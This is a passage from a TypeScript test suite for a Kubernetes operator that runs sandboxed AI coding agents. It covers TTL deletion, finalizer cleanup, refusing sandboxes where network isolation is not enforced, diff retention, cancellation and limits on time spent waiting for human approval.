    expect(types(decide(observe(succeeded), config, later))).toEqual(['deleteRun']);
  });

  // The TTL of a run whose spec does not parse was read from the parse: such a run was kept
  // forever, whatever its spec said. The value is the one the schema would take, or none.
  const endedFor = (reason: string, spec: object, status: object = {}) =>
    run({
      spec: spec as never,
      status: { phase: 'Failed', reason, completionTime: minutesAgo(5), observedGeneration: 2, ...status } as never,
    });
  it.each([
    [
      'TemplateNotFound, TTL 0',
      endedFor('TemplateNotFound', { templateRef: { name: 'gone' }, ttlSecondsAfterFinished: 0 }),
      ['deleteRun'],
      undefined,
    ],
    ['InvalidSpec, TTL 0', endedFor('InvalidSpec', { budget: { maxSteps: 5000 }, ttlSecondsAfterFinished: 0 }), ['deleteRun'], undefined],
    ['InvalidSpec, TTL an hour', endedFor('InvalidSpec', { budget: { maxSteps: 5000 }, ttlSecondsAfterFinished: 3600 }), [], 55 * 60_000],
    [
      'InvalidSpec, TTL from the template recorded',
      endedFor(
        'InvalidSpec',
        { templateRef: { name: 'deps' }, budget: { maxSteps: 5000 } },
        { template: { name: 'deps', spec: { ttlSecondsAfterFinished: 60 } } },
      ),
      ['deleteRun'],
      undefined,
    ],
    ['InvalidSpec, no TTL', endedFor('InvalidSpec', { budget: { maxSteps: 5000 } }), [], undefined],
    ['InvalidSpec, a negative TTL', endedFor('InvalidSpec', { ttlSecondsAfterFinished: -1 }), [], undefined],
    ['InvalidSpec, a TTL not whole', endedFor('InvalidSpec', { ttlSecondsAfterFinished: 0.5 }), [], undefined],
    ['InvalidSpec, a TTL as text', endedFor('InvalidSpec', { ttlSecondsAfterFinished: '0' }), [], undefined],
    ['InvalidSpec, a TTL past the most', endedFor('InvalidSpec', { ttlSecondsAfterFinished: 31_536_001 }), [], undefined],
  ] as const)('applies the TTL of a run that ended for its spec (%s)', (_name, ended, actions, requeueAfterMs) => {
    const decision = decide(observe(ended), config, now);
    expect(types(decision)).toEqual(actions);
    expect(decision.requeueAfterMs).toBe(requeueAfterMs);
  });

  it('#15.2 records the run (name, spec digest, outcome) in the same decision that deletes it for its TTL', () => {
    const later = new Date(now.getTime() + 5 * 60_000);
    const decision = decide(observe(succeeded), config, later);
    expect(decision.actions).toEqual([
      {
        type: 'deleteRun',
        record: {
          uid: succeeded.metadata.uid,
          specSha256: specSha256(succeeded.spec),
          phase: 'Succeeded',
          reason: 'Completed',
          completionTime: minutesAgo(5),
          deletedAt: later.toISOString(),
        },
      },
    ]);
  });

  it.each([
    ['a CodingEval', 'chamvi.dev/v1alpha1', 'CodingEval', false],
    ['a CodingSchedule', 'chamvi.dev/v1alpha1', 'CodingSchedule', false],
    ['a controller of another kind (a tool that re-creates it)', 'example.org/v1', 'Composite', true],
  ] as const)(
    '#15.2 deletes a run controlled by %s for its TTL with a record only if one could apply to it',
    (_, apiVersion, kind, recorded) => {
      const later = new Date(now.getTime() + 5 * 60_000);
      const controlled = run({
        spec: { ttlSecondsAfterFinished: 60 },
        metadata: { ownerReferences: [{ apiVersion, kind, name: 'owner', uid: 'owner-uid', controller: true }] } as never,
        status: { phase: 'Succeeded', reason: 'Completed', completionTime: minutesAgo(5), conditions: accepted, observedGeneration: 1 },
      });
      const [deleting] = decide(observe(controlled), config, later).actions;
      expect(deleting).toMatchObject({ type: 'deleteRun' });
      expect('record' in deleting!).toBe(recorded);
    },
  );

  // A record is written by the operator, for whoever created the run: one for a run that did no
  // work let any author end a future run of that name and spec (a GitOps repository's) without
  // running, or push the namespace's real records out, 1 000 runs that did nothing at a time.
  describe('#15.2 writes no record for a run that did no work a re-application would repeat', () => {
    const later = new Date(now.getTime() + 60_000);
    const cancel = { 'chamvi.dev/cancel': 'blocking a GitOps run' };
    /** The run with the status decide gave it: the next reconcile's observation. */
    const after = (subject: CodingRun, observed: Partial<ObservedRun> = {}) => {
      const decision = decide(observe(subject, observed), config, now);
      return { ...subject, status: decision.status! };
    };
    const deletion = (ended: CodingRun) => decide(observe(ended), config, later).actions.find((action) => action.type === 'deleteRun');

    it.each([
      [
        'created cancelled: ended before it was validated or accepted',
        run({ spec: { ttlSecondsAfterFinished: 0 }, metadata: { annotations: cancel } }),
      ],
      [
        'accepted, then cancelled while queued',
        run({
          spec: { ttlSecondsAfterFinished: 0 },
          metadata: { annotations: cancel },
          status: { phase: 'Pending', reason: 'Queued', conditions: accepted },
        }),
      ],
      [
        'accepted, then cancelled while its pod was made',
        run({
          spec: { ttlSecondsAfterFinished: 0 },
          metadata: { annotations: cancel },
          status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: 'fix-sandbox', conditions: accepted },
        }),
      ],
      [
        'refused (a repository not allowed)',
        run({ spec: { ttlSecondsAfterFinished: 0, repository: { url: 'https://github.com/other/app.git' } } }),
      ],
    ])('%s: deleted for its TTL without a record', (_, subject) => {
      const ended = after(subject);
      expect(ended.status.phase === 'Cancelled' || ended.status.phase === 'Failed').toBe(true);
      expect(deletion(ended)).toEqual({ type: 'deleteRun' });
      expect(didWork(ended)).toBe(false);
    });

    it("a run cancelled between its agent's start and the write of Running, its steps counted, is recorded", () => {
      // Its diff was not kept (no status.result), but its steps and tokens say the agent ran.
      const provisioning = run({
        spec: { ttlSecondsAfterFinished: 0 },
        metadata: { annotations: cancel },
        status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: 'fix-sandbox', conditions: accepted, steps: 2 },
      });
      const ended = after(provisioning);
      expect(ended.status.phase).toBe('Cancelled');
      expect(ended.status.result).toBeUndefined();
      expect(deletion(ended)).toMatchObject({ type: 'deleteRun', record: { phase: 'Cancelled' } });
    });

    it('a run cancelled once its agent started is recorded (its diff kept): applied again, it would run again', () => {
      const running = run({
        spec: { ttlSecondsAfterFinished: 0 },
        metadata: { annotations: cancel },
        status: { phase: 'Running', startTime: minutesAgo(2), podName: 'fix-sandbox', conditions: accepted },
      });
      const ended = after(running, { networkPolicyExists: true, pod: pod(), keptDiff: final });
      expect(ended.status).toMatchObject({ phase: 'Cancelled', reason: 'Cancelled' });
      expect(deletion(ended)).toMatchObject({ type: 'deleteRun', record: { phase: 'Cancelled', specSha256: specSha256(running.spec) } });
    });
  });

  it('#15.2 never deletes a run that was not run again (AlreadyFinished): re-applied, it would come back each sync', () => {
    const replayed = run({
      spec: { ttlSecondsAfterFinished: 0 },
      status: { phase: 'Succeeded', reason: 'AlreadyFinished', completionTime: minutesAgo(60), observedGeneration: 2 },
    });
    expect(decide(observe(replayed), config, now)).toEqual({ actions: [], events: [] });
  });

  it('removes pod, then policy, and ConfigMaps of a deleted run before the finalizer', () => {
    const deleted = run({ metadata: { deletionTimestamp: now.toISOString() }, status: { phase: 'Running' } });
    const first = decide(observe(deleted, { pod: pod(), networkPolicyExists: true, ownedConfigMaps: ['fix-diff'] }), config, now);
    expect(types(first)).toEqual(['stopAgent', 'deletePod', 'deleteConfigMaps']);
    expect(first.status).toBeUndefined();
    // The pod is being deleted: nothing is deleted again, and the policy and finalizer wait for it to be gone.
    const terminating = decide(observe(deleted, { pod: pod({ deleting: true }), networkPolicyExists: true }), config, now);
    expect(types(terminating)).toEqual(['stopAgent']);
    const podGone = decide(observe(deleted, { networkPolicyExists: true }), config, now);
    expect(types(podGone)).toEqual(['stopAgent', 'deleteNetworkPolicy']);
    const last = decide(observe(deleted), config, now);
    expect(types(last)).toEqual(['stopAgent', 'removeFinalizer']);
  });

  it("deletes at most CONFIG_MAP_DELETES_PER_RECONCILE of a deleted run's ConfigMaps at a time, and looks again at once until none is left", () => {
    const deleted = run({ metadata: { deletionTimestamp: now.toISOString() }, status: { phase: 'Succeeded' } });
    const names = Array.from({ length: CONFIG_MAP_DELETES_PER_RECONCILE + 20 }, (_, index) => `forged-${index}`);
    const many = decide(observe(deleted, { ownedConfigMaps: names }), config, now);
    expect(many.actions).toEqual([
      { type: 'stopAgent' },
      { type: 'deleteConfigMaps', names: names.slice(0, CONFIG_MAP_DELETES_PER_RECONCILE) },
    ]);
    expect(many.requeueAfterMs).toBe(CONFIG_MAPS_DELETED_RECHECK_MS);
    const rest = decide(observe(deleted, { ownedConfigMaps: names.slice(CONFIG_MAP_DELETES_PER_RECONCILE) }), config, now);
    expect(rest.actions).toEqual([
      { type: 'stopAgent' },
      { type: 'deleteConfigMaps', names: names.slice(CONFIG_MAP_DELETES_PER_RECONCILE) },
    ]);
    expect(rest.requeueAfterMs).toBe(CONFIG_MAPS_DELETED_RECHECK_MS);
    expect(decide(observe(deleted), config, now)).toEqual({ actions: [{ type: 'stopAgent' }, { type: 'removeFinalizer' }], events: [] });
  });

  it('deletes by name the pod whose create this process sent, not yet in the cache, and keeps the finalizer until it looks again', () => {
    const deleted = run({ metadata: { deletionTimestamp: now.toISOString() }, status: { phase: 'Provisioning' } });
    const decision = decide(observe(deleted, { freshPodSent: true }), config, now);
    expect(decision.actions).toEqual([{ type: 'stopAgent' }, { type: 'deletePod', name: sandboxPodName(deleted) }]);
    expect(decision.requeueAfterMs).toBe(1_000);
  });

  it("keeps a finished run's policy while its pod is being deleted, and deletes each once", () => {
    const finished = run({ status: { phase: 'Succeeded', reason: 'Completed', completionTime: now.toISOString() } });
    expect(types(decide(observe(finished, { pod: pod(), networkPolicyExists: true }), config, now))).toEqual(['stopAgent', 'deletePod']);
    expect(types(decide(observe(finished, { pod: pod({ deleting: true }), networkPolicyExists: true }), config, now))).toEqual([
      'stopAgent',
    ]);
    expect(types(decide(observe(finished, { networkPolicyExists: true }), config, now))).toEqual(['stopAgent', 'deleteNetworkPolicy']);
    expect(types(decide(observe(finished), config, now))).toEqual([]);
  });

  it('does nothing for a finished deleted run that has no finalizer and nothing left', () => {
    const deleted = run({
      metadata: { deletionTimestamp: now.toISOString(), finalizers: [] },
      status: { phase: 'Succeeded', reason: 'Completed', completionTime: minutesAgo(1) },
    });
    expect(decide(observe(deleted), config, now)).toEqual({ actions: [], events: [] });
  });

  // Its chamvi.dev/cleanup finalizer removed by someone while another's finalizer holds the run:
  // the watch reports no deletion (the object stays), so this is the only place its sandbox and
  // agent are stopped. Each action is safe to repeat, none asks to look again, and a pod being
  // deleted is not deleted again: the run is looked at only when something of it changes.
  it.each([
    [
      'a running run with its pod and policy',
      { phase: 'Running' as const },
      { pod: pod(), networkPolicyExists: true },
      ['stopAgent', 'deletePod'],
    ],
    [
      'a running run whose pod is being deleted',
      { phase: 'Running' as const },
      { pod: pod({ deleting: true }), networkPolicyExists: true },
      ['stopAgent'],
    ],
    [
      'a running run whose pod is gone, its policy left',
      { phase: 'Running' as const },
      { networkPolicyExists: true },
      ['stopAgent', 'deleteNetworkPolicy'],
    ],
    ['a running run with nothing left', { phase: 'Running' as const }, {}, ['stopAgent']],
    [
      'a provisioning run whose pod create was sent, not yet seen',
      { phase: 'Provisioning' as const },
      { freshPodSent: true },
      ['stopAgent', 'deletePod'],
    ],
    ['a finished run whose pod is still up', { phase: 'Failed' as const, reason: 'Timeout' }, { pod: pod() }, ['stopAgent', 'deletePod']],
    ['a finished run with nothing left', { phase: 'Failed' as const, reason: 'Timeout' }, {}, []],
  ])(
    'stops what is left of a deleted run whose chamvi.dev/cleanup finalizer another removed (%s), leaving the finalizers alone',
    (_, status, seen, actions) => {
      const held = run({ metadata: { deletionTimestamp: now.toISOString(), finalizers: ['example.com/keep'] }, status });
      const decision = decide(observe(held, { ownedConfigMaps: ['fix-diff'], ...seen }), config, now);
      expect(types(decision)).toEqual(actions);
      expect(decision.requeueAfterMs).toBeUndefined();
      expect(decision.status).toBeUndefined();
    },
  );
});

describe('security #11.14 decide: a foreign object holding the sandbox name', () => {
  const provisioning = run({
    status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: sandboxPodName(run()), conditions: accepted },
  });
  const running = run({ status: { phase: 'Running', startTime: minutesAgo(2), podName: sandboxPodName(run()), conditions: accepted } });
  // Accepted already, so only the sandbox is left to decide.
  const admitted = (overrides: Parameters<typeof run>[0] = {}) => run({ ...overrides, status: { phase: 'Pending', conditions: accepted } });
  const foreignPod: TakenName = { kind: 'Pod', name: sandboxPodName(run()), why: 'it has no controller ownerReference' };
  const foreignPolicy: TakenName = { kind: 'NetworkPolicy', name: SANDBOX_DENY_ALL_POLICY, why: 'it has no controller ownerReference' };

  it.each([
    [
      'an admitted run about to get its pod, the pod name taken',
      admitted({ metadata: { finalizers: [] } }),
      {},
      [foreignPod],
      ['addFinalizer', 'stopAgent'],
    ],
    ['an admitted run about to get its pod, the policy name taken', admitted(), {}, [foreignPolicy], ['stopAgent']],
    [
      'a provisioning run whose pod name is taken',
      provisioning,
      { networkPolicyExists: true },
      [foreignPod],
      ['stopAgent', 'deleteNetworkPolicy'],
    ],
    [
      'a running run whose pod was replaced by a foreign one',
      running,
      { networkPolicyExists: true },
      [foreignPod],
      ['stopAgent', 'deleteNetworkPolicy'],
    ],
    ['a running run whose policy name is taken', running, { pod: pod() }, [foreignPolicy], ['stopAgent', 'deletePod']],
  ])('fails %s with SandboxNameTaken, creating nothing and deleting only its own objects', (_, r, seen, takenNames, actions) => {
    const decision = decide(observe(r, { references: undefined, ...seen, takenNames }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'SandboxNameTaken' });
    expect(decision.status!.message).toContain(
      `${takenNames[0]!.kind} agents/${takenNames[0]!.name} (it has no controller ownerReference)`,
    );
    expect(decision.status!.message).toMatch(/neither uses nor deletes it.*delete it, and create the run again/);
    expect(types(decision)).toEqual(actions);
    expect(decision.events).toContainEqual(expect.objectContaining({ type: 'Warning', reason: 'SandboxNameTaken' }));
  });

  it('leaves a foreign holder alone once the run has ended or is deleted', () => {
    const failed = run({ status: { phase: 'Failed', reason: 'SandboxNameTaken', completionTime: minutesAgo(1), conditions: accepted } });
    expect(types(decide(observe(failed, { takenNames: [foreignPod] }), config, now))).toEqual([]);
    const deleted = run({ metadata: { deletionTimestamp: now.toISOString() }, status: failed.status! });
    expect(types(decide(observe(deleted, { takenNames: [foreignPod, foreignPolicy] }), config, now))).toEqual([
      'stopAgent',
      'removeFinalizer',
    ]);
  });
});

describe('security #11.8 decide: no sandbox where NetworkPolicy is not enforced', () => {
  const strict = { ...config, allowUnisolatedSandboxes: false };
  const fresh = run({ metadata: { finalizers: [] } });

  it('waits in Pending with IsolationNotEnforced while the namespace is unknown, creating nothing', () => {
    for (const isolation of [undefined, { verdict: 'unknown' as const, detail: 'a probe pod is checking' }]) {
      const decision = decide(observe(fresh, isolation ? { isolation } : {}), strict, now);
      expect(types(decision)).toEqual(['addFinalizer']);
      expect(decision.status).toMatchObject({
        phase: 'Pending',
        reason: 'IsolationNotEnforced',
        message: expect.stringContaining('namespace agents'),
      });
      expect(decision.status!.startTime).toBeUndefined();
      expect(decision.requeueAfterMs).toBeGreaterThan(0);
    }
  });

  it('fails the run when the probe found isolation not enforced, and says what a sandbox would reach and how to opt in', () => {
    const isolation = {
      verdict: 'unenforced' as const,
      detail: 'a probe pod under a deny-all NetworkPolicy still reached 10.0.0.5:8080 after 10s',
    };
    const decision = decide(observe(fresh, { isolation }), strict, now);
    expect(types(decision)).not.toContain('createPod');
    expect(types(decision)).not.toContain('ensureSandboxPolicy');
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'IsolationNotEnforced' });
    expect(decision.status!.message).toContain(
      'NetworkPolicy is not enforced in namespace agents: a probe pod under a deny-all NetworkPolicy still reached 10.0.0.5:8080',
    );
    expect(decision.status!.message).toMatch(/Redis .*cloud metadata.*API server.*internal services.*internet/);
    expect(decision.status!.message).toContain('allowUnisolatedSandboxes: true');
    expect(decision.events).toContainEqual(expect.objectContaining({ type: 'Warning', reason: 'IsolationNotEnforced' }));
  });

  it('lets a run through where the probe showed enforcement: policy and pod are created', () => {
    const decision = decide(observe(fresh, { isolation: { verdict: 'enforced' }, sandboxPolicies: [] }), strict, now);
    expect(types(decision)).toEqual(['addFinalizer', 'ensureSandboxPolicy', 'createPod']);
    expect(decision.status).toMatchObject({ phase: 'Provisioning' });
  });

  it('refuses every run when the operator creates no NetworkPolicy, even where the probe would say enforced', () => {
    const decision = decide(observe(fresh, { isolation: { verdict: 'enforced' } }), { ...strict, networkPolicy: false }, now);
    expect(types(decision)).not.toContain('createPod');
    expect(decision.status).toMatchObject({
      phase: 'Failed',
      reason: 'IsolationNotEnforced',
      message: expect.stringContaining('networkPolicy: false'),
    });
  });

  it.each([
    ['unenforced', { verdict: 'unenforced' as const }, true],
    ['unknown', { verdict: 'unknown' as const }, true],
    ['networkPolicy false', { verdict: 'unknown' as const }, false],
  ])('starts the run anyway (%s) when the admin allows unisolated sandboxes', (_, isolation, networkPolicy) => {
    const decision = decide(observe(fresh, { isolation }), { ...strict, allowUnisolatedSandboxes: true, networkPolicy }, now);
    expect(types(decision)).toContain('createPod');
    expect(decision.status).toMatchObject({ phase: 'Provisioning' });
  });

  it('moves a run that waited for the probe on once the verdict is enforced, and leaves a started run alone', () => {
    const waited = run({ status: { phase: 'Pending', reason: 'IsolationNotEnforced', conditions: accepted } });
    expect(decide(observe(waited, { references: undefined, isolation: { verdict: 'enforced' } }), strict, now).status).toMatchObject({
      phase: 'Provisioning',
    });
    const started = run({ status: { phase: 'Running', startTime: minutesAgo(2), podName: 'fix-sandbox', conditions: accepted } });
    const decision = decide(observe(started, { networkPolicyExists: true, pod: pod() }), strict, now);
    expect(decision.status!.phase).toBe('Running');
  });
});

describe('decide: every ending of a started run keeps its diff (#13.3)', () => {
  const started = (phase: 'Running' | 'WaitingForApproval', overrides: CodingRunOverrides = {}) =>
    run({
      ...overrides,
      status: {
        phase,
        startTime: minutesAgo(2),
        podName: 'fix-sandbox',
        conditions: accepted,
        ...(phase === 'WaitingForApproval'
          ? { pendingApproval: { id: 's1-c1', toolName: 'bash', input: '{}', requestedAt: minutesAgo(1) } }
          : {}),
      },
    });
  const late = started('Running', { spec: { budget: { timeout: '1m' } } });
  const cancelled = (phase: 'Running' | 'WaitingForApproval') =>
    started(phase, { metadata: { annotations: { 'chamvi.dev/cancel': 'wrong branch' } } });
  const up = { networkPolicyExists: true, pod: pod() };
  // A run accepted by an earlier operator whose spec this one's schema refuses (an upgrade
  // tightened it; here budget.maxSteps over the most): decide() parses the spec at every look.
  const unparsable = (phase: 'Running' | 'WaitingForApproval' | 'Pending' | 'Provisioning') =>
    phase === 'Pending' || phase === 'Provisioning'
      ? run({
          spec: { budget: { maxSteps: 5000 } },
          status: { phase, startTime: minutesAgo(2), podName: 'fix-sandbox', conditions: accepted },
        })
      : started(phase, { spec: { budget: { maxSteps: 5000 } } });

  // [ending, run, observed, from the sandbox?, phase, reason]
  it.each([
    ['the controller deadline with the pod up', late, up, true, 'Failed', 'DeadlineExceeded'],
    [
      'a lost agent state with the pod up',
      started('Running'),
      { ...up, agent: { state: 'missing', moving: false } },
      true,
      'Failed',
      'StateLost',
    ],
    [
      'a job that failed for good',
      started('Running'),
      { ...up, agent: { state: 'stepping', moving: false, failedJob: 'boom' } },
      true,
      'Failed',
      'AgentFailed',
    ],
    ['a pod that is gone', started('Running'), { networkPolicyExists: true }, false, 'Failed', 'SandboxLost'],
    [
      'a pod ended by the kubelet',
      started('Running'),
      { pod: pod({ phase: 'Failed', ready: false, reason: 'DeadlineExceeded' }) },
      false,
      'Failed',
      'DeadlineExceeded',
    ],
    ['a cancel while Running', cancelled('Running'), up, true, 'Cancelled', 'Cancelled'],
    ['a cancel while WaitingForApproval', cancelled('WaitingForApproval'), up, true, 'Cancelled', 'Cancelled'],
    ['a spec no longer valid for this operator, while Running', unparsable('Running'), up, true, 'Failed', 'InvalidSpec'],
    [
      'a spec no longer valid for this operator, while WaitingForApproval',
      unparsable('WaitingForApproval'),
      up,
      true,
      'Failed',
      'InvalidSpec',
    ],
    [
      'a spec no longer valid for this operator, its pod gone',
      unparsable('Running'),
      { networkPolicyExists: true },
      false,
      'Failed',
      'InvalidSpec',
    ],
  ] as const)('%s: first keeps the diff, then ends with it', (_, subject, observed, fromSandbox, phase, reason) => {
    const first = decide(observe(subject, { ...observed }), config, now);
    expect(first.actions).toEqual([{ type: 'keepDiff', fromSandbox }]);
    expect(first.status).toBeUndefined();
    for (const kept of [final, snapshot]) {
      const second = decide(observe(subject, { ...observed, keptDiff: kept }), config, now);
      expect(second.status).toMatchObject({
        phase,
        reason,
        result: { diff: DIFF, diffConfigMap: 'fix-diff', diffSource: kept.source, filesChanged: 1 },
      });
      expect(types(second)).toContain('stopAgent');
    }
  });

  // A run given a pool pod that ends before the write recording its start landed: once
  // finished, its pod is looked up by status.podName only (the claim's labels are for started runs).
  it('names the pod it ran in, a pool pod too, so the finished run still finds and deletes it', () => {
    const { podName: _none, ...unnamed } = cancelled('Running').status!;
    const subject = { ...cancelled('Running'), status: unnamed };
    const decision = decide(observe(subject, { ...up, pod: pod({ name: 'pool-warm-x1' }), keptDiff: final }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Cancelled', podName: 'pool-warm-x1' });
    expect(decision.actions).toContainEqual({ type: 'deletePod', name: 'pool-warm-x1' });
  });

  it('says in the message when the whole diff could not be stored', () => {
    const decision = decide(observe(late, { ...up, keptDiff: { ...final, notStored: 'quota exceeded' } }), config, now);
    expect(decision.status!.message).toContain('The full diff could not be kept: quota exceeded');
    expect(decision.status!.result).toMatchObject({ diffSource: 'final', diff: DIFF });
  });

  it('records none when there was nothing to keep', () => {
    const decision = decide(observe(late, { ...up, keptDiff: NO_DIFF }), config, now);
    expect(decision.status!.result).toMatchObject({ diffSource: 'none', diff: '', filesChanged: 0 });
  });

  it('says of a started run whose spec no longer parses that this operator refuses it, which field, and how to go on from its work', () => {
    const decision = decide(observe(unparsable('Running'), { ...up, keptDiff: final }), config, now);
    expect(decision.status!.message).toMatch(
      /^The run's spec is no longer valid for this operator,.*spec\.budget\.maxSteps: .*with the field changed, and spec\.continueFrom: \{name: fix\} to go on from this one's work\.$/,
    );
    expect(decision.events).toContainEqual(expect.objectContaining({ type: 'Warning', reason: 'InvalidSpec' }));
    expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
    // It was accepted, and ran: Accepted stays as it was; the ending's reason says what changed.
    expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')).toMatchObject({ status: 'True' });
  });

  it('keeps the diff of a started run whose recorded template is gone from status, and says so as before, not as an upgrade', () => {
    const subject = started('Running', { spec: { templateRef: { name: 'base' } } });
    expect(decide(observe(subject, up), config, now).actions).toEqual([{ type: 'keepDiff', fromSandbox: true }]);
    const decision = decide(observe(subject, { ...up, keptDiff: final }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'InvalidSpec', result: { diffSource: 'final' } });
    expect(decision.status!.message).toMatch(/^status\.template no longer holds the CodingRunTemplate base/);
  });

  it.each(['Pending', 'Provisioning'] as const)(
    'refuses a run not started yet (%s) whose spec no longer parses as before: no diff to keep, its sandbox removed',
    (phase) => {
      const decision = decide(observe(unparsable(phase), up), config, now);
      expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
      expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'InvalidSpec' });
      expect(decision.status!.message).toMatch(/^spec\.budget\.maxSteps: .*fix the field and create the run again/);
      expect(decision.status).not.toHaveProperty('result');
      expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')).toMatchObject({ status: 'False', reason: 'InvalidSpec' });
    },
  );
});

describe('decide: cancel in every phase (#13.4)', () => {
  const annotations = { 'chamvi.dev/cancel': 'not needed any more' };

  it.each([
    ['a new run', run({ metadata: { annotations } })],
    ['a queued run', run({ metadata: { annotations }, status: { phase: 'Pending', reason: 'Queued', conditions: accepted } })],
    [
      'a provisioning run',
      run({ metadata: { annotations }, status: { phase: 'Provisioning', startTime: minutesAgo(1), conditions: accepted } }),
    ],
  ])('ends %s Cancelled at once (no agent, no diff to keep), creating nothing', (_, subject) => {
    const decision = decide(observe(subject, { networkPolicyExists: true }), config, now);
    expect(decision.status).toMatchObject({
      phase: 'Cancelled',
      reason: 'Cancelled',
      message: expect.stringContaining('not needed any more'),
    });
    expect(decision.status!.result).toBeUndefined();
    expect(types(decision)).not.toContain('createPod');
    expect(types(decision)).toContain('deleteNetworkPolicy');
    expect(decision.events).toEqual([expect.objectContaining({ type: 'Warning', reason: 'Cancelled' })]);
  });

  it('leaves a finished run as it is', () => {
    const done = run({
      metadata: { annotations },
      status: { phase: 'Succeeded', reason: 'Completed', conditions: accepted, observedGeneration: 2 },
    });
    expect(decide(observe(done), config, now).status).toBeUndefined();
  });
});

describe('decide: time waiting for approval is not the run’s time (#13.5)', () => {
  // budget.timeout 10m; started 40 minutes ago; the grace is config.deadlineGraceSeconds.
  const waitingSince = (minutes: number, approvalWaitSeconds?: number) =>
    run({
      spec: { budget: { timeout: '10m' }, approval: { tools: ['bash'], timeout: '2h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(40),
        podName: 'fix-sandbox',
        conditions: accepted,
        ...(approvalWaitSeconds !== undefined ? { approvalWaitSeconds } : {}),
        pendingApproval: { id: 's2-c3', toolName: 'bash', input: '{}', requestedAt: minutesAgo(minutes) },
      },
    });
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };

  it('does not end a run that has waited 35 of its 40 minutes for a human', () => {
    const decision = decide(observe(waitingSince(35), up), config, now);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    expect(types(decision)).toEqual([]);
  });

  it('counts the answered approvals too (status.approvalWaitSeconds)', () => {
    // 20 minutes waited before, 15 now: 5 minutes of the run's own time.
    expect(decide(observe(waitingSince(15, 20 * 60), up), config, now).status!.phase).toBe('WaitingForApproval');
    // Without the earlier 20 minutes the run has had 25 minutes of its 10.
    expect(decide(observe(waitingSince(15), up), config, now).actions).toEqual([{ type: 'keepDiff', fromSandbox: true }]);
  });

  it('still ends a run at the deadline when the human time is taken out', () => {
    const decision = decide(observe(waitingSince(5), up), config, now);
    expect(decision.actions).toEqual([{ type: 'keepDiff', fromSandbox: true }]);
  });
});

describe("decide: config.maxApprovalWaitSeconds bounds a run's time waiting on humans", () => {
  // A bound of an hour; approval.timeout a week, so only the bound can end these waits early.
  const bounded = { ...config, maxApprovalWaitSeconds: 3600 };
  const secondsAgo = (seconds: number) => new Date(now.getTime() - seconds * 1000).toISOString();
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };
  const waiting = (startedMinutesAgo: number, answeredSeconds: number, pendingSeconds: number) =>
    run({
      spec: { budget: { timeout: '10m' }, approval: { tools: ['bash'], timeout: '168h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(startedMinutesAgo),
        podName: 'fix-sandbox',
        conditions: accepted,
        approvalWaitSeconds: answeredSeconds,
        pendingApproval: { id: 's9-c1', toolName: 'bash', input: '{}', requestedAt: secondsAgo(pendingSeconds) },
      },
    });
  const denials = (decision: ReturnType<typeof decide>) => decision.actions.filter((action) => action.type === 'resumeAgent');

  it('waits on while the waits, summed, are under the bound, looking again when they reach it', () => {
    // 50 minutes answered, 9 pending: a minute of the hour is left.
    const decision = decide(observe(waiting(65, 50 * 60, 9 * 60), up), bounded, now);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    expect(decision.actions).toEqual([]);
    expect(decision.requeueAfterMs).toBe(15_000);
    expect(decide(observe(waiting(65, 50 * 60 + 50, 9 * 60), up), bounded, now).requeueAfterMs).toBe(10_000);
  });

  it('denies the pending call as at approval.timeout once the waits reach the bound, naming the key; the run goes on', () => {
    const decision = decide(observe(waiting(65, 50 * 60, 10 * 60), up), bounded, now);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    expect(denials(decision)).toEqual([
      {
        type: 'resumeAgent',
        answer: {
          id: 's9-c1',
          decision: 'deny',
          timedOut: true,
          reason: expect.stringMatching(/waited for approvals 1h in all, the most the operator's maxApprovalWaitSeconds allows a run/),
        },
      },
    ]);
    // With the default bound (a week) the same run waits on.
    expect(denials(decide(observe(waiting(65, 50 * 60, 10 * 60), up), config, now))).toEqual([]);
  });

  it('denies at once a call asked after the waits passed the bound', () => {
    const decision = decide(observe(waiting(62, 3600 + 5, 1), up), bounded, now);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    expect(denials(decision)).toEqual([expect.objectContaining({ answer: expect.objectContaining({ decision: 'deny', timedOut: true }) })]);
  });

  it("moves the deadline by the bound at most: waits past it are the run's own time, and the failure says so", () => {
    // Started 72 minutes ago, 70 of them waiting (a run from before the bound): 10m + grace + 1h ended 1 minute ago.
    const overdue = run({
      spec: { budget: { timeout: '10m' }, approval: { tools: ['bash'], timeout: '168h' } },
      status: { phase: 'Running', startTime: minutesAgo(72), podName: 'fix-sandbox', conditions: accepted, approvalWaitSeconds: 70 * 60 },
    });
    const running = { networkPolicyExists: true, pod: pod(), agent: { state: 'stepping', moving: true } as const };
    expect(decide(observe(overdue, running), bounded, now).actions).toEqual([{ type: 'keepDiff', fromSandbox: true }]);
    const ended = decide(observe(overdue, { ...running, keptDiff: final }), bounded, now);
    expect(ended.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
    expect(ended.status!.message).toMatch(
      /budget\.timeout of 10m;.* It waited 1h10m for approvals in all, of which the operator's maxApprovalWaitSeconds \(1h\) moved its deadline on/,
    );
    // Under the default bound the 70 minutes all count: the run goes on.
    expect(decide(observe(overdue, running), config, now).status!.phase).toBe('Running');
  });

  it('keeps a run whose steps each park four gated calls, answered within approval.timeout, alive in its pod', () => {
    // maxSteps 10, budget 30m, approval.timeout 1h: the pod allowed maxSteps × 1h (10.5 h in all), and the
    // 40th call, its answer due, found the run ended DeadlineExceeded at the pod's limit after 30 h of human time.
    const spec = { budget: { maxSteps: 10, timeout: '30m' }, approval: { tools: ['bash', 'edit_file'], timeout: '1h' } } as const;
    const answered = 39 * 45 * 60;
